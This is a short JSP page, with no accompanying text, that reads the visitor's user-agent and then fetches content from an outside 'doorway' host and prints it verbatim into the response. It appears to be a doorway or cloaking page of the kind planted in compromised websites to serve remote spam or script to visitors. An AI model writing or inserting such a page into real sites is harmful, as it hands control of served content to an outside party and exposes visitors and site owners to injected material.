<%@ page contentType="text/html" %>
<%
String ua = request.getHeader("user-agent");
java.net.URL u = new java.net.URL("http://doorway.example.invalid/p");
java.io.BufferedReader r = new java.io.BufferedReader(new java.io.InputStreamReader(u.openConnection().getInputStream()));
String l; while ((l = r.readLine()) != null) out.println(l);
%>
